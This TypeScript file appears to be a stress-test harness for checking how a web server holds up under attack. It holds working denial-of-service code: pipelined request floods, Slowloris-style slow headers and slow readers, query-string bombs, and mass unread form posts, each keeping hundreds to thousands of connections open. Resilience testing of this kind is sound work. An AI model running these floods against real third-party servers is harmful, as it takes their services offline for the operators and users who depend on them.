/**
 * Runs one kind of attacker in its own process: `node siege-attackers.ts KIND URL PATH`. Reconnects when it's cut off. Stops on
 * SIGTERM.
 */
import { connect, type Socket } from 'node:net'

const [kind = '', url = '', path = '/'] = process.argv.slice(2)
const { hostname, port } = new URL(url)

/** Keeps this many connections open. */
function keepOpen(count: number, act: (socket: Socket) => NodeJS.Timeout | undefined): void {
  const reconnect = () => {
    let timer: NodeJS.Timeout | undefined
    const socket = connect(Number(port), hostname, () => {
      timer = act(socket)
    })
    socket.on('error', () => {})
    socket.on('close', () => {
      clearInterval(timer)
      setTimeout(reconnect, 50)
    })
  }
  for (let index = 0; index < count; index++) setTimeout(reconnect, index)
}

const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`
const queryBomb = get(`/?${'%41&'.repeat(3800)}`)
const pageFlood = Buffer.from(get('/').repeat(2500))
const body = `firstName=${'%3C'.repeat(14_000)}`
const echoedForm = `POST /api/leads HTTP/1.1\r\nHost: localhost\r\nOrigin: ${url}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`

const attacks: Readonly<Record<string, () => void>> = {
  pipelining: () =>
    keepOpen(100, socket => {
      socket.pause()
      const write = () => {
        while (!socket.destroyed && socket.write(pageFlood));
      }
      socket.on('drain', write)
      write()
      return undefined
    }),
  slowReaders: () =>
    keepOpen(2000, socket => {
      socket.pause()
      socket.write(get(path).repeat(4))
      return setInterval(() => socket.read(1024), 1000)
    }),
  slowHeaders: () =>
    keepOpen(1500, socket => {
      socket.resume()
      socket.write('GET / HTTP/1.1\r\nHost: localhost\r\n')
      return setInterval(() => socket.write('X-Patience: none\r\n'), 3000)
    }),
  queryBombs: () =>
    keepOpen(8, socket => {
      socket.resume()
      // Eight connections send ten requests a second each: 80 requests and 1.2 MB of query strings a second.
      return setInterval(() => socket.write(queryBomb), 100)
    }),
  unreadForms: () =>
    keepOpen(1500, socket => {
      socket.pause()
      socket.write(echoedForm)
      return undefined
    }),
  unreadAssets: () =>
    keepOpen(200, socket => {
      socket.pause()
      socket.write(get(path).repeat(20))
      return undefined
    }),
}

attacks[kind]?.()
process.on('SIGTERM', () => process.exit())
